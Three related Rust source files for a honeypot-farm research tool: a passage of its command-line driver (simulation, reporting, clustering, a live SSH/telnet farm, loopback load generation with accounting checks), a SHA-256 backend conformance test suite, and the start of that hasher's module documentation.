                eprintln!("error streaming snapshot: {e}");
                std::process::exit(1);
            });
        eprintln!("{} clients folded (streaming)", feats.len());
        if let Some(kb) = honeyfarm::obs::peak_rss_kb() {
            eprintln!("peak RSS: {} MB", kb / 1024);
        }
        ClusterRun::finish(feats, &cfg)
    } else if c.snapshot_explicit {
        eprintln!("loading snapshot {} …", c.snapshot.display());
        let snap = Snapshot::read_file(&c.snapshot).unwrap_or_else(|e| {
            eprintln!("error loading snapshot: {e}");
            std::process::exit(1);
        });
        let out = SimOutput::from_snapshot(snap);
        eprintln!("{} sessions / {} clients", out.dataset.len(), out.n_clients);
        ClusterRun::over(&out.dataset, c.threads, &cfg)
    } else {
        let config = sim_config(c);
        eprintln!(
            "simulating {} days at scale {} (seed {}, {} thread{}) …",
            config.window.num_days(),
            c.scale,
            c.seed,
            c.threads,
            if c.threads == 1 { "" } else { "s" }
        );
        let out = Simulation::run(config);
        eprintln!("{} sessions / {} clients", out.dataset.len(), out.n_clients);
        ClusterRun::over(&out.dataset, c.threads, &cfg)
    };
    std::fs::create_dir_all(&c.out).expect("out dir");
    let assignments = cluster::assignments_tsv(&run.features, &run.matrix, &run.output);
    std::fs::write(c.out.join("cluster_assignments.tsv"), assignments).expect("assignments tsv");
    let summary = cluster::summary_tsv(&run.output);
    std::fs::write(c.out.join("cluster_summary.tsv"), summary).expect("summary tsv");
    print!("{}", cluster::summary_text(&run.features, &run.output));
    println!("cluster tables written to {}", c.out.display());
    emit_metrics(c, "hfarm cluster");
}

/// Flush, package, and write the run's metrics manifest, then parse it
/// back (a malformed manifest is a bug worth failing loudly on).
fn emit_metrics(c: &Common, tool: &str) {
    let Some(dir) = &c.metrics else { return };
    // Final RSS high-water-mark sample so every manifest carries the
    // process-wide peak, not just the fold loop's per-day samples.
    honeyfarm::obs::sample_peak_rss();
    let manifest = honeyfarm::obs::manifest(tool);
    if let Err(e) = manifest.write_dir(dir) {
        eprintln!("error writing metrics manifest: {e}");
        std::process::exit(1);
    }
    match honeyfarm::obs::RunManifest::load_dir(dir) {
        Ok(m) => eprintln!(
            "metrics manifest written to {} ({} counters, {} histograms, {} spans)",
            dir.display(),
            m.counters.len(),
            m.histograms.len(),
            m.spans.len()
        ),
        Err(e) => {
            eprintln!("emitted metrics manifest failed to parse back: {e}");
            std::process::exit(1);
        }
    }
}

/// `hfarm metrics DIR` — parse a manifest directory and summarize it.
fn metrics_summary(dir: &Path) -> ! {
    match honeyfarm::obs::RunManifest::load_dir(dir) {
        Err(e) => {
            eprintln!("{e}");
            std::process::exit(1)
        }
        Ok(m) => {
            println!(
                "manifest ok: schema {} v{}, tool {:?}",
                honeyfarm::obs::SCHEMA_NAME,
                m.schema_version,
                m.tool
            );
            for (name, v) in &m.counters {
                println!("counter    {name} = {v}");
            }
            for (name, v) in &m.gauges {
                println!("gauge      {name} = {v}");
            }
            for (name, h) in &m.histograms {
                println!(
                    "histogram  {name}: n={} sum={} min={} max={}",
                    h.count, h.sum, h.min, h.max
                );
            }
            for (name, s) in &m.spans {
                println!(
                    "span       {name}: n={} wall={}ms cpu={}ms max={}ms",
                    s.count,
                    s.wall_ns / 1_000_000,
                    s.cpu_ns / 1_000_000,
                    s.max_wall_ns / 1_000_000
                );
            }
            // Derived figures. Hash throughput divides the global
            // `hash.bytes` counter by the longest recorded span's wall —
            // spans nest, so summing them would double-count; the longest
            // one is the run's dominant phase and the honest denominator.
            if let Some(&bytes) = m.counters.get("hash.bytes") {
                if let Some((span, s)) = m.spans.iter().max_by_key(|(_, s)| s.wall_ns) {
                    if s.wall_ns > 0 {
                        let mib_s = bytes as f64 / (s.wall_ns as f64 / 1e9) / (1024.0 * 1024.0);
                        println!(
                            "derived    hash.throughput = {mib_s:.1} MiB/s \
                             ({bytes} hashed bytes over `{span}` wall)"
                        );
                    }
                }
            }
            if let Some(kb) = m.peak_rss_kb() {
                println!(
                    "derived    process.peak_rss = {:.1} MiB ({kb} kB high-water mark)",
                    kb as f64 / 1024.0
                );
            }
            std::process::exit(0)
        }
    }
}

fn main() {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let Some((cmd, rest)) = argv.split_first() else {
        usage("missing subcommand")
    };
    if cmd == "metrics" {
        let [dir] = rest else {
            usage("metrics takes exactly one argument: the manifest directory")
        };
        metrics_summary(Path::new(dir));
    }
    let c = parse(rest);
    if c.metrics.is_some() {
        honeyfarm::obs::enable();
    }
    match cmd.as_str() {
        "simulate" if c.fold => {
            let config = sim_config(&c);
            eprintln!(
                "simulating {} days at scale {} (seed {}, {} thread{}, out-of-core fold) …",
                config.window.num_days(),
                c.scale,
                c.seed,
                c.threads,
                if c.threads == 1 { "" } else { "s" }
            );
            let fold = Simulation::run_fold(config);
            eprintln!(
                "{} sessions folded / {} clients / {} hashes",
                fold.aggregates.total_sessions,
                fold.n_clients,
                fold.tags.len()
            );
            eprintln!("fold mode retires rows as it goes; no snapshot written");
            if let Some(kb) = honeyfarm::obs::peak_rss_kb() {
                eprintln!("peak RSS: {} MB", kb / 1024);
            }
            write_report(
                &fold.dataset,
                &fold.tags,
                &fold.aggregates,
                &c.out,
                c.threads,
            );
            emit_metrics(&c, "hfarm simulate");
        }
        "simulate" => {
            let config = sim_config(&c);
            let (out, agg) = simulate(&c);
            if let Some(dir) = c.snapshot.parent() {
                std::fs::create_dir_all(dir).expect("snapshot dir");
            }
            if let Err(e) = out.to_snapshot(&config).write_file(&c.snapshot) {
                eprintln!("error writing snapshot: {e}");
                std::process::exit(1);
            }
            eprintln!("snapshot written to {}", c.snapshot.display());
            write_report(&out.dataset, &out.tags, &agg, &c.out, c.threads);
            emit_metrics(&c, "hfarm simulate");
        }
        "report" if c.streaming => {
            eprintln!("streaming snapshot {} …", c.snapshot.display());
            let file = std::fs::File::open(&c.snapshot).unwrap_or_else(|e| {
                eprintln!("error opening snapshot: {e}");
                std::process::exit(1);
            });
            let fold = FoldOutput::from_snapshot_stream(std::io::BufReader::new(file))
                .unwrap_or_else(|e| {
                    eprintln!("error streaming snapshot: {e}");
                    std::process::exit(1);
                });
            eprintln!(
                "{} sessions folded / {} clients / {} hashes",
                fold.aggregates.total_sessions,
                fold.n_clients,
                fold.tags.len()
            );
            if let Some(kb) = honeyfarm::obs::peak_rss_kb() {
                eprintln!("peak RSS: {} MB", kb / 1024);
            }
            write_report(
                &fold.dataset,
                &fold.tags,
                &fold.aggregates,
                &c.out,
                c.threads,
            );
            emit_metrics(&c, "hfarm report");
        }
        "report" => {
            eprintln!("loading snapshot {} …", c.snapshot.display());
            let snap = Snapshot::read_file(&c.snapshot).unwrap_or_else(|e| {
                eprintln!("error loading snapshot: {e}");
                std::process::exit(1);
            });
            let meta = snap.meta;
            let out = SimOutput::from_snapshot(snap);
            eprintln!(
                "{} sessions / {} clients / {} hashes (seed {}, scale {}, {} days)",
                out.dataset.len(),
                out.n_clients,
                out.tags.len(),
                meta.seed,
                meta.scale_volume,
                meta.days
            );
            let agg = Aggregates::compute_threaded(&out.dataset, c.threads);
            write_report(&out.dataset, &out.tags, &agg, &c.out, c.threads);
            emit_metrics(&c, "hfarm report");
        }
        "cluster" => cluster_cmd(&c),
        "claims" => {
            let (_, agg) = simulate(&c);
            println!("{}", Claims::compute(&agg));
        }
        "birth" => {
            let (_, agg) = simulate(&c);
            println!("{}", birth_report(&agg));
        }
        "serve" => serve(&c),
        "loadgen" => loadgen(&c),
        "verify" => verify(&c),
        other => usage(&format!("unknown subcommand {other}")),
    }
}

/// Run the correctness oracles end-to-end. Quick mode (default) proves the
/// engine's core invariants on a small window; `--claims` evaluates the
/// full declarative paper-claims table on the canonical fixture.
fn verify(c: &Common) -> ! {
    use honeyfarm::testkit::{claims as claims_oracle, diff_sim_outputs, Scenario};

    let mut failures = 0usize;
    let mut check = |name: &str, report: Option<String>| match report {
        None => println!("ok   {name}"),
        Some(detail) => {
            failures += 1;
            println!("FAIL {name}\n{detail}");
        }
    };

    // 1. Thread-count differential: threads ∈ {1, 2, 8} must agree
    //    bit-for-bit on a small window.
    let days = c.days.min(30);
    let base = SimConfig {
        seed: c.seed,
        scale: Scale::of(c.scale),
        window: StudyWindow::first_days(days),
        use_script_cache: c.fast,
        threads: 1,
    };
    eprintln!(
        "verify: differential run over {days} days at scale {} …",
        c.scale
    );
    let serial = Simulation::run(base.clone());
    for threads in [2usize, 8] {
        let parallel = Simulation::run(SimConfig {
            threads,
            ..base.clone()
        });
        let report = diff_sim_outputs(
            "threads=1",
            &serial,
            &format!("threads={threads}"),
            &parallel,
        );
        check(
            &format!("thread differential (1 vs {threads})"),
            (!report.is_identical()).then(|| report.render()),
        );
    }

    // 2. Snapshot round-trip: write → load must reproduce the output, and
    //    writing twice must be byte-identical.
    let mut bytes = Vec::new();
    match serial.to_snapshot(&base).write_to(&mut bytes) {
        Err(e) => check("snapshot write", Some(format!("  {e}"))),
        Ok(()) => {
            let mut again = Vec::new();
            serial
                .to_snapshot(&base)
                .write_to(&mut again)
                .expect("second snapshot write");
            check(
                "snapshot double-write determinism",
                (bytes != again).then(|| "  two writes of the same run differ".to_string()),
            );
            match Snapshot::read_from(&mut &bytes[..]) {
                Err(e) => check("snapshot load", Some(format!("  {e}"))),
                Ok(snap) => {
                    let reloaded = SimOutput::from_snapshot(snap);
                    let report =
                        diff_sim_outputs("simulated", &serial, "snapshot-reloaded", &reloaded);
                    check(
                        "snapshot round-trip equivalence",
                        (!report.is_identical()).then(|| report.render()),
                    );
                }
            }
        }
    }

    // 3. Scenario goldens, if a directory was given.
    if let Some(dir) = &c.scenarios {
        let mut paths: Vec<PathBuf> = std::fs::read_dir(dir)
            .unwrap_or_else(|e| usage(&format!("--scenarios {}: {e}", dir.display())))
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
            .collect();
        paths.sort();
        for path in paths {
            let name = path
                .file_stem()
                .unwrap_or_default()
                .to_string_lossy()
                .to_string();
            match Scenario::load(&path) {
                Err(e) => check(&format!("scenario {name}"), Some(format!("  {e}"))),
                Ok(sc) => {
                    let golden = path.with_extension("golden");
                    let outcome = honeyfarm::testkit::check_golden(&golden, &sc.event_log());
                    check(
                        &format!("scenario {name}"),
                        outcome.err().map(|e| format!("  {e}")),
                    );
                }
            }
        }
    }

    // 4. The full paper-claims table, on demand (several minutes: runs the
    //    canonical fixture — full 486-day window at scale 0.002).
    if c.claims {
        eprintln!("verify: paper-claims fixture (486 days at scale 0.002) …");
        let out = Simulation::run(SimConfig {
            seed: 0x0e0e_fa20,
            scale: Scale::of(0.002),
            window: StudyWindow::paper(),
            use_script_cache: false,
            threads: c.threads,
        });
        let ctx = claims_oracle::ClaimCtx::new(&out);
        let results = claims_oracle::evaluate(&ctx);
        if c.md {
            println!("{}", claims_oracle::render_markdown(&results));
        } else {
            print!("{}", claims_oracle::render_text(&results));
        }
        let failed = results.iter().filter(|r| !r.pass).count();
        check(
            "paper claims",
            (failed > 0).then(|| format!("  {failed} claim(s) out of tolerance")),
        );
    }

    emit_metrics(c, "hfarm verify");
    if failures == 0 {
        println!("verify: all checks passed");
        std::process::exit(0)
    }
    println!("verify: {failures} check(s) failed");
    std::process::exit(1)
}

/// Set by the SIGINT handler and the stdin watcher; polled by `serve`.
static SERVE_STOP: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);

extern "C" fn on_sigint(_sig: i32) {
    SERVE_STOP.store(true, std::sync::atomic::Ordering::SeqCst);
}

extern "C" {
    fn signal(signum: i32, handler: usize) -> usize;
}
const SIGINT: i32 = 2;

fn wire_config(c: &Common) -> honeyfarm::wire::FarmConfig {
    honeyfarm::wire::FarmConfig {
        nodes: c.nodes,
        ssh_port: c.ssh_port,
        telnet_port: c.telnet_port,
        timing: if c.virtual_time {
            honeyfarm::wire::Timing::Virtual
        } else {
            honeyfarm::wire::Timing::Wall
        },
        per_ip_cap: c.per_ip_cap,
        wall_timeout_secs: c.wall_timeout,
        ..honeyfarm::wire::FarmConfig::default()
    }
}

/// One parsable line of final farm accounting, consumed by
/// `loadgen --spawn-serve` and by humans alike.
fn accounting_line(stats: &honeyfarm::wire::FarmStats, sessions: usize, clients: u64) -> String {
    format!(
        "accounting accepted={} ingested={} rejected={} wall_timeouts={} oversized={} \
         storms={} read_errors={} auth_ok={} auth_fail={} commands={} open_peak={} \
         sessions={} clients={}",
        stats.accepted(),
        stats.ingested(),
        stats.rejected_ip_cap(),
        stats.wall_timeouts(),
        stats.oversized_lines(),
        stats.telnet_storms(),
        stats.read_errors(),
        stats.auths_ok(),
        stats.auths_fail(),
        stats.commands(),
        stats.open_peak(),
        sessions,
        clients,
    )
}

/// `hfarm serve` — run the live farm until Ctrl-C or stdin EOF.
fn serve(c: &Common) -> ! {
    use std::io::{BufRead, Write};

    let farm = honeyfarm::wire::LiveFarm::start(wire_config(c)).unwrap_or_else(|e| {
        eprintln!("error starting live farm: {e}");
        std::process::exit(1);
    });
    {
        let stdout = std::io::stdout();
        let mut out = stdout.lock();
        for node in farm.nodes() {
            writeln!(
                out,
                "node {} ssh {} telnet {}",
                node.id, node.ssh, node.telnet
            )
            .expect("stdout");
        }
        writeln!(out, "ready").expect("stdout");
        out.flush().expect("stdout");
    }
    eprintln!(
        "live farm up: {} nodes ({} listeners); stop with Ctrl-C or stdin EOF",
        farm.nodes().len(),
        farm.nodes().len() * 2
    );
    unsafe {
        signal(SIGINT, on_sigint as *const () as usize);
    }
    // A parent process (loadgen --spawn-serve) stops us by closing stdin;
    // interactive use stops with Ctrl-C. Either path sets the same flag.
    std::thread::spawn(|| {
        let stdin = std::io::stdin();
        let mut line = String::new();
        let _ = stdin.lock().read_line(&mut line);
        SERVE_STOP.store(true, std::sync::atomic::Ordering::SeqCst);
    });
    while !SERVE_STOP.load(std::sync::atomic::Ordering::SeqCst) {
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    eprintln!("draining …");
    let out = farm.shutdown();
    println!(
        "{}",
        accounting_line(&out.stats, out.dataset.len(), out.n_clients)
    );
    if c.snapshot_explicit {
        if let Some(dir) = c.snapshot.parent() {
            std::fs::create_dir_all(dir).expect("snapshot dir");
        }
        if let Err(e) = out.to_snapshot().write_file(&c.snapshot) {
            eprintln!("error writing snapshot: {e}");
            std::process::exit(1);
        }
        eprintln!("snapshot written to {}", c.snapshot.display());
    }
    emit_metrics(c, "hfarm serve");
    if !out.stats.accounting_balanced() {
        eprintln!("accounting violation: accepted != ingested + rejected");
        std::process::exit(1);
    }
    std::process::exit(0)
}

/// Load the `.hfs` corpus for load generation.
fn load_corpus(c: &Common) -> Vec<honeyfarm::testkit::Scenario> {
    let dir = c
        .scenarios
        .clone()
        .unwrap_or_else(|| PathBuf::from("tests/scenarios"));
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| usage(&format!("--scenarios {}: {e}", dir.display())))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "hfs"))
        .collect();
    paths.sort();
    let scenarios: Vec<_> = paths
        .iter()
        .map(|p| {
            honeyfarm::testkit::Scenario::load(p)
                .unwrap_or_else(|e| usage(&format!("{}: {e}", p.display())))
        })
        .collect();
    if scenarios.is_empty() {
        usage(&format!("no .hfs scenarios in {}", dir.display()));
    }
    scenarios
}

/// `hfarm loadgen` — replay scenarios over loopback TCP and enforce the
/// ingest-accounting invariant.
fn loadgen(c: &Common) -> ! {
    let scenarios = load_corpus(c);
    let needed = scenarios.iter().map(|s| s.honeypot + 1).max().unwrap_or(1);
    let nodes = c.nodes.max(needed);
    let cfg = honeyfarm::wire::LoadgenConfig {
        sessions: c.sessions,
        concurrency: c.concurrent,
        hold_all: c.hold_all,
        io_timeout: std::time::Duration::from_secs(120),
    };
    eprintln!(
        "loadgen: {} sessions over {} scenarios against {} nodes ({})",
        cfg.sessions,
        scenarios.len(),
        nodes,
        if c.hold_all {
            "hold-all".to_string()
        } else {
            format!("{} concurrent", cfg.concurrency)
        }
    );
    let (report, accepted, ingested, rejected) = if c.spawn_serve {
        loadgen_against_child(nodes, &scenarios, &cfg)
    } else {
        let farm = honeyfarm::wire::LiveFarm::start(honeyfarm::wire::FarmConfig {
            nodes,
            timing: honeyfarm::wire::Timing::Virtual,
            per_ip_cap: 1 << 30,
            wall_timeout_secs: 600,
            ..honeyfarm::wire::FarmConfig::default()
        })
        .unwrap_or_else(|e| {
            eprintln!("error starting live farm: {e}");
            std::process::exit(1);
        });
        let report = honeyfarm::wire::loadgen::run(farm.nodes(), &scenarios, &cfg);
        let out = farm.shutdown();
        let s = &out.stats;
        (report, s.accepted(), s.ingested(), s.rejected_ip_cap())
    };
    println!(
        "driven {} (connect errors {}), completed {}, failed {}, peak open {}, \
         {} bytes read, {:.2}s",
        report.driven,
        report.connect_errors,
        report.completed,
        report.failed,
        report.peak_open,
        report.bytes_in,
        report.elapsed.as_secs_f64(),
    );
    println!("farm: accepted {accepted}, ingested {ingested}, rejected {rejected}");
    emit_metrics(c, "hfarm loadgen");
    // The invariant the whole pipeline hangs off: every connection the
    // client established was either turned into a session record or
    // explicitly rejected — none lost, even under shutdown or faults.
    if accepted != report.driven || ingested + rejected != report.driven {
        eprintln!(
            "ACCOUNTING VIOLATION: driven={} accepted={} ingested+rejected={}",
            report.driven,
            accepted,
            ingested + rejected
        );
        std::process::exit(1);
    }
    println!("accounting ok: ingested + rejected == driven == accepted");
    std::process::exit(0)
}

/// Drive a child `hfarm serve` process — client and server each get their
/// own fd budget, which is what lets a single machine demonstrate 10k+
/// concurrent sessions.
fn loadgen_against_child(
    nodes: u16,
    scenarios: &[honeyfarm::testkit::Scenario],
    cfg: &honeyfarm::wire::LoadgenConfig,
) -> (honeyfarm::wire::LoadgenReport, u64, u64, u64) {
    use std::io::BufRead;

    let exe = std::env::current_exe().expect("current_exe");
    let mut child = std::process::Command::new(exe)
        .args([
            "serve",
            "--virtual-time",
            "--nodes",
            &nodes.to_string(),
            "--per-ip-cap",
            &(1u32 << 30).to_string(),
            "--wall-timeout",
            "600",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap_or_else(|e| {
            eprintln!("error spawning serve child: {e}");
            std::process::exit(1);
        });
    let stdout = child.stdout.take().expect("child stdout");
    let mut lines = std::io::BufReader::new(stdout).lines();
    let mut node_addrs = Vec::new();
    for line in lines.by_ref() {
        let line = line.expect("child stdout");
        if line == "ready" {
            break;
        }
        let parts: Vec<&str> = line.split_whitespace().collect();
        if let ["node", id, "ssh", ssh, "telnet", telnet] = parts[..] {
            node_addrs.push(honeyfarm::wire::NodeAddrs {
                id: id.parse().expect("node id"),
                ssh: ssh.parse().expect("ssh addr"),
                telnet: telnet.parse().expect("telnet addr"),
            });
        }
    }
    assert!(!node_addrs.is_empty(), "serve child announced no nodes");
    let report = honeyfarm::wire::loadgen::run(&node_addrs, scenarios, cfg);
    // Closing the child's stdin is the stop signal; it drains and prints
    // its final accounting line before exiting.
    drop(child.stdin.take());
    let (mut accepted, mut ingested, mut rejected) = (0u64, 0u64, 0u64);
    for line in lines {
        let line = line.expect("child stdout");
        if let Some(rest) = line.strip_prefix("accounting ") {
            for kv in rest.split_whitespace() {
                let Some((k, v)) = kv.split_once('=') else {
                    continue;
                };
                let v: u64 = v.parse().unwrap_or(0);
                match k {
                    "accepted" => accepted = v,
                    "ingested" => ingested = v,
                    "rejected" => rejected = v,
                    _ => {}
                }
            }
        }
    }
    let status = child.wait().expect("child wait");
    assert!(status.success(), "serve child failed: {status}");
    (report, accepted, ingested, rejected)
}
