//! Differential and vector conformance for every SHA-256 backend.
//!
//! The crate ships three compression cores — the spec-shaped reference
//! hasher, the schedule-unrolled scalar core the dispatcher falls back to,
//! and the SHA-NI core (single-stream and two-way interleaved) — and every
//! byte the pipeline persists goes through whichever one dispatch picks.
//! This suite pins them to each other and to digests computed by an
//! independent implementation (Python's `hashlib`), so a backend bug can't
//! hide behind the backend it is compared against.
//!
//! The SHA-NI paths are exercised only where the CPU exposes the extension;
//! CI additionally runs the whole suite with `HF_HASH_FORCE_SCALAR=1` so
//! the dispatch fallback is covered even on SHA-NI hardware.

use hf_hash::sha256::{backends, reference};
use hf_hash::{Digest, Sha256};
use proptest::prelude::*;

/// Deterministic pattern independent of any hasher: byte `i` of message
/// `n` is `(n*167 + i*13) mod 256` — the same formula the vector
/// generator used.
fn pattern(n: usize, len: usize) -> Vec<u8> {
    (0..len).map(|i| ((n * 167 + i * 13) % 256) as u8).collect()
}

/// Digests of `pattern(n, len)` computed by Python's `hashlib.sha256`,
/// not by any code in this repository.
const HASHLIB_VECTORS: &[(usize, usize, &str)] = &[
    (
        0,
        0,
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    ),
    (
        1,
        1,
        "2dbf9365a0b09d85bbd6176d8b2332aa5ae97bef652712473bc69165e74b22ed",
    ),
    (
        2,
        2,
        "993251b995a20bee0f4259217a37fef1f089a30b4e7067ea94dbb4eab3cc5cda",
    ),
    (
        3,
        3,
        "989f61bd650ef1867d1419a33454ab177132f9761a74679f74c89311b121e37b",
    ),
    (
        4,
        31,
        "f75a79816ea33aa4eebf87de2b4cb0cf2a8c7c4cf6b1239a8a887fcb9ac50170",
    ),
    (
        5,
        32,
        "6bea466a9cffd59ecf5431384bb5c85d87bc644493485f33f4613f914c5450a4",
    ),
    (
        6,
        33,
        "86fd445571b291e0ec7aaa6584c9bf5fdb6d4a64d2daaba7162374f8b35ff58c",
    ),
    (
        7,
        54,
        "16d7e5b212c472c0faf4b12e85468e9024b5edf7f60a9ee588729af329d92815",
    ),
    (
        8,
        55,
        "5daaa8e1b4ab1557136cd34aa1160c51c47285a0f3d38d0039cd0e41098106a3",
    ),
    (
        9,
        56,
        "29b75d235feb4803fed2233b92f768ca48087bcdad51f04a70f480316d565b87",
    ),
    (
        10,
        57,
        "09de7cbc15e594c51b9d3b2ca9a4e00dd0d9ca8461046effffb23925926e79ce",
    ),
    (
        11,
        63,
        "08df11887c61485e6caee546eae72ab83cfc7585a734ac65c99bd9742e6a8963",
    ),
    (
        12,
        64,
        "2b4842464de2a064d4ecee22c96ec3f617673bcbb749bd8a41014082f86560a0",
    ),
    (
        13,
        65,
        "59de77ac3d27bcbec9b39124e185f966d32a5f3b29d60a95e8411d9c47ab1e54",
    ),
    (
        14,
        100,
        "9ad042e2882cb6f05a123eebceb3deb64593f00974d9e2d950fce53a29d14dc2",
    ),
    (
        15,
        119,
        "329017ab7aebae7e9a6c08bb4a2fd9de64e0dd19f772765be43a2ee4759f7da9",
    ),
    (
        16,
        120,
        "750e3b300dad24c8870a55581fc566c7d78fa21d900daa58407a0267fd485616",
    ),
    (
        17,
        121,
        "915075709a398ca36c76f04873489f894d13485ee1b618ec6ddb2c50848b31ea",
    ),
    (
        18,
        127,
        "9d1449679c011c0c35952400c8c8d86ff340410be0a20301c9c4d3cd0fb7b1d3",
    ),
    (
        19,
        128,
        "316731fd7f087566f68cb9879dfa27f0dc74a49b7a9b8a7cdf06dfaacc5f97b7",
    ),
    (
        20,
        129,
        "20259290fb3fc61bcb7125b165753436a2086d255ba868cf32588e9e900280ca",
    ),
    (
        21,
        255,
        "95a5b83429c55f337dfa57664f0064e18069048ff2347e398822de418c4c7c7b",
    ),
    (
        22,
        256,
        "4c985d42345028507cff7f3d370d8581b3af746057c96d8983b095c3ea52b624",
    ),
    (
        23,
        1000,
        "7bb2fa7ff0db797646f30a289a3774ea64034902ab739bad37e4d9af29509239",
    ),
    (
        24,
        4096,
        "87a15591e9563dbd1baa78f1740553cfe5cbfcdf52c7d7706f332d0ddd3b0f6c",
    ),
];

/// The NIST FIPS 180-4 / CAVP short-message classics, as a second
/// independently published source.
const NIST_VECTORS: &[(&[u8], &str)] = &[
    (
        b"",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    ),
    (
        b"abc",
        "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
    ),
    (
        b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
        "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1",
    ),
    (
        b"abcdefghbcdefghicdefghijdefghijkefghijklfghijklmghijklmnhijklmnoijklmnopjklmnopqklmnopqrlmnopqrsmnopqrstnopqrstu",
        "cf5b16a778af8380036ce59e7b0492370b249b11e8f07a51afac45037afee9d1",
    ),
];

/// Every digest entry point the crate exposes, applied to one message.
/// SHA-NI entries are `None` off SHA-NI hardware.
fn all_backends(data: &[u8]) -> Vec<(&'static str, Option<Digest>)> {
    vec![
        ("dispatch", Some(Sha256::digest(data))),
        ("reference", Some(reference::Sha256::digest(data))),
        ("scalar", Some(backends::scalar_digest(data))),
        ("sha-ni", backends::shani_digest(data)),
    ]
}

#[test]
fn hashlib_vectors_pin_every_backend() {
    for &(n, len, want) in HASHLIB_VECTORS {
        let data = pattern(n, len);
        for (name, got) in all_backends(&data) {
            if let Some(d) = got {
                assert_eq!(d.to_hex(), want, "backend={name} len={len}");
            }
        }
    }
}

#[test]
fn nist_vectors_pin_every_backend() {
    for &(msg, want) in NIST_VECTORS {
        for (name, got) in all_backends(msg) {
            if let Some(d) = got {
                assert_eq!(d.to_hex(), want, "backend={name} msg={msg:?}");
            }
        }
    }
}

#[test]
fn padding_edge_lengths_agree_across_backends() {
    // 55 is the longest single-block message, 56 forces the two-block
    // padding, 63/64/65 straddle the block boundary; repeat the pattern at
    // the second block boundary too.
    for len in [
        54usize, 55, 56, 57, 63, 64, 65, 118, 119, 120, 127, 128, 129,
    ] {
        let data = pattern(len, len);
        let want = reference::Sha256::digest(&data);
        for (name, got) in all_backends(&data) {
            if let Some(d) = got {
                assert_eq!(d, want, "backend={name} len={len}");
            }
        }
    }
}

#[test]
fn shani_pair_matches_single_stream_at_mixed_lengths() {
    // The interleaved core keeps two independent states while sharing the
    // round loop; unequal block counts exercise its tail handling.
    for (la, lb) in [
        (0usize, 0usize),
        (1, 200),
        (200, 1),
        (55, 56),
        (64, 128),
        (713, 65),
    ] {
        let a = pattern(la, la);
        let b = pattern(lb, lb);
        let Some((da, db)) = backends::shani_digest_pair(&a, &b) else {
            return; // no SHA extensions on this machine
        };
        assert_eq!(da, reference::Sha256::digest(&a), "a len={la}");
        assert_eq!(db, reference::Sha256::digest(&b), "b len={lb}");
    }
}

#[test]
fn digest_many_preserves_order_for_every_parity() {
    // Odd and even counts land on different tail paths of the pair loop.
    for count in 0usize..=7 {
        let bodies: Vec<Vec<u8>> = (0..count).map(|i| pattern(i, i * 53 + 2)).collect();
        let mut batched = Vec::new();
        Sha256::digest_many(bodies.iter().map(|b| b.as_slice()), &mut batched);
        let singles: Vec<Digest> = bodies.iter().map(|b| Sha256::digest(b)).collect();
        assert_eq!(batched, singles, "count={count}");
    }
}

#[test]
fn digest_many_appends_after_existing_output() {
    let sentinel = Sha256::digest(b"sentinel");
    let mut out = vec![sentinel];
    Sha256::digest_many([b"a".as_slice(), b"b".as_slice()], &mut out);
    assert_eq!(out.len(), 3);
    assert_eq!(out[0], sentinel);
    assert_eq!(out[1], Sha256::digest(b"a"));
    assert_eq!(out[2], Sha256::digest(b"b"));
}

proptest! {
    /// Arbitrary messages: all backends agree with the reference hasher.
    #[test]
    fn backends_agree_on_arbitrary_messages(data in proptest::collection::vec(any::<u8>(), 0..1024)) {
        let want = reference::Sha256::digest(&data);
        prop_assert_eq!(Sha256::digest(&data), want);
        prop_assert_eq!(backends::scalar_digest(&data), want);
        if let Some(d) = backends::shani_digest(&data) {
            prop_assert_eq!(d, want);
        }
    }

    /// Arbitrary split points: streaming updates match the one-shot digest.
    #[test]
    fn streaming_matches_one_shot_at_arbitrary_splits(
        data in proptest::collection::vec(any::<u8>(), 0..512),
        cuts in proptest::collection::vec(any::<u16>(), 0..4),
    ) {
        let mut splits: Vec<usize> = cuts.iter().map(|&c| c as usize % (data.len() + 1)).collect();
        splits.sort_unstable();
        let mut h = Sha256::new();
        let mut prev = 0;
        for s in splits {
            h.update(&data[prev..s]);
            prev = s;
        }
        h.update(&data[prev..]);
        prop_assert_eq!(h.finalize(), Sha256::digest(&data));
    }

    /// Arbitrary batches: `digest_many` equals the per-message map.
    #[test]
    fn digest_many_matches_singles_on_arbitrary_batches(
        bodies in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..200), 0..9),
    ) {
        let mut batched = Vec::new();
        Sha256::digest_many(bodies.iter().map(|b| b.as_slice()), &mut batched);
        let singles: Vec<Digest> = bodies.iter().map(|b| Sha256::digest(b)).collect();
        prop_assert_eq!(batched, singles);
    }
}
