//! SHA-256 per FIPS 180-4, implemented from scratch, with runtime-dispatched
//! backends.
//!
//! Supports both one-shot ([`Sha256::digest`]) and incremental
//! ([`Sha256::update`] / [`Sha256::finalize`]) hashing. The incremental path is
//! what the honeypot's artifact store uses while streaming simulated download
//! bodies; the one-shot path is used for short shell-generated files; the
//! batched path ([`Sha256::digest_many`]) hashes a day's distinct dropper
//! bodies and is where the multi-buffer SIMD win lives.
//!
//! # Backends
//!
//! Three implementations of the compression function coexist (DESIGN.md §14):
//!
//! - [`reference`] — the original straight-line scalar code, kept verbatim as
//!   the differential-testing oracle. Never dispatched to at runtime.
//! - [`scalar`] — a schedule-unrolled scalar core (rotationless round
//!   formulation, 16-word circular message schedule). The portable fallback.
//! - `shani` (x86-64 only) — the Intel SHA New Instructions path, selected at
//!   runtime via `is_x86_feature_detected!`, including a two-way interleaved
//!   multi-buffer variant used by `digest_many` to hide the `sha256rnds2`
//!   latency chain across two independent messages.
//!
//! The backend is chosen once per process (first hash) and cached. Setting
